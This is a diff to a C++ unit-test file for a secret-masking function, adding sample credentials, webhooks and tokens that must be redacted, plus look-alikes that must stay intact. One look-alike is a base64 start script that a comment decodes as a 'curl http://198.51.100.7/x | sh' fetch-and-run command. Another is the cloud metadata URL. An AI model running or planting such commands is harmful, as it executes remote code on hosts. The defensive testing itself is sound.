@@ -2,6 +2,8 @@
 
 #include <gtest/gtest.h>
 
+#include <chrono>
+
 #include "base/json.h"
 
 namespace backtrail::report {
@@ -70,6 +72,29 @@ TEST(MaskSecrets, ReplacesSecretsAndKeepsTheRest) {
       {"token of a code host", "git+ghp_abcdefghijklmnopqrstuvwxyz0123456789@host",
        "git+[masked]@host"},
       {"token of a chat", "key xoxb-123456789012-abcdefghijkl.", "key [masked]."},
+      {"environment of a container",
+       R"({"name":"DB_PASSWORD","value":"x1"},{"name":"A","value":"b"})",
+       R"({"name":"DB_PASSWORD","value":"[masked]"},{"name":"A","value":"b"})"},
+      {"the same with the value first", R"([{"value": "x1", "name": "API_KEY"}])",
+       R"([{"value": "[masked]", "name": "API_KEY"}])"},
+      {"parameter of a stack, in text",
+       R"("{\"parameterKey\":\"DBPassword\",\"parameterValue\":\"x1\"}")",
+       R"("{\"parameterKey\":\"DBPassword\",\"parameterValue\":\"[masked]\"}")"},
+      {"password in an address", "postgres://app:s3cr3t@db.example.com:5432/x",
+       "postgres://app:[masked]@db.example.com:5432/x"},
+      {"webhook", "to https://hooks.slack.com/services/T0/B0/XyZ now",
+       "to https://hooks.slack.com/services/[masked] now"},
+      {"options of one letter", "curl -u admin:pw1 https://x; mysql -u root -ppw2 db",
+       "curl -u admin:[masked] https://x; mysql -u root -p[masked] db"},
+      {"name that ends with pass", R"({"DB_PASS":"x1","dbPass":"x2"})",
+       R"({"DB_PASS":"[masked]","dbPass":"[masked]"})"},
+      {"code of OAuth", "https://x/?state=1&code=abcdefghijklmnopqrst&x=2",
+       "https://x/?state=1&code=[masked]&x=2"},
+      {"tokens of other makers", "sk_live_abcdefghijklmnopqrst npm_abcdefghijklmnopqrstuvwxyz",
+       "[masked] [masked]"},
+      {"start script in base64 that holds a secret",  // export AWS_SECRET_ACCESS_KEY=abcdefgh
+       R"({"userData":"IyEvYmluL3NoCmV4cG9ydCBBV1NfU0VDUkVUX0FDQ0VTU19LRVk9YWJjZGVmZ2gK"})",
+       R"({"userData":"[masked]"})"},
       {"two secrets", R"({"oldPassword":"a1","newPassword":"b2"})",
        R"({"oldPassword":"[masked]","newPassword":"[masked]"})"},
       {"secret string of Secrets Manager", R"({"name":"db","secretString":"{\"k\":1}"})",
@@ -103,10 +128,30 @@ TEST(MaskSecrets, KeepsLookAlikes) {
       "eyJust a word",
       "ghp_short and graph and xoxb-",
       "-----BEGIN CERTIFICATE-----\nMIIE\n-----END CERTIFICATE-----",
+      // #!/bin/sh, curl http://198.51.100.7/x | sh: what an intruder lets hosts run is evidence
+      R"({"userData":"IyEvYmluL3NoCmN1cmwgaHR0cDovLzE5OC41MS4xMDAuNy94IHwgc2gK"})",
+      R"({"name":"Stage","value":"prod"},{"key":"Owner","value":"ops"})",
+      R"({"bypass":"x","Compass":"y"})",
+      "https://example.com:8443/a@b and s3://bucket/key",
+      "http://169.254.169.254/latest/meta-data",
+      "cp -p a b; mysql --host db",
+      "?code=us-east-1&x=1",
       "da39a3ee5e6b4b0d3255bfef95601890afd80709",
       "aws-cli/2.31.9 md/prompt#off md/command#iam.create-access-key",
   };
   for (const std::string& text : kept) EXPECT_EQ(mask_secrets(text), text);
+}
+
+TEST(MaskSecrets, TakesTimeInProportionToTheText) {
+  std::string text;
+  for (int level = 0; level < 300; ++level) {
+    const std::string q = std::string(static_cast<std::size_t>(level), '\\') + "\"";
+    text += q + "value" + q + ":" + q;
+  }
+  for (int i = 0; i < 40000; ++i) text += R"("name":"a://b:","value":"-p -u x","code=")";
+  const auto begin = std::chrono::steady_clock::now();
+  EXPECT_FALSE(mask_secrets(text).empty());
+  EXPECT_LT(std::chrono::steady_clock::now() - begin, std::chrono::seconds(5));
 }
 
 TEST(MaskSecrets, KeepsJsonValid) {
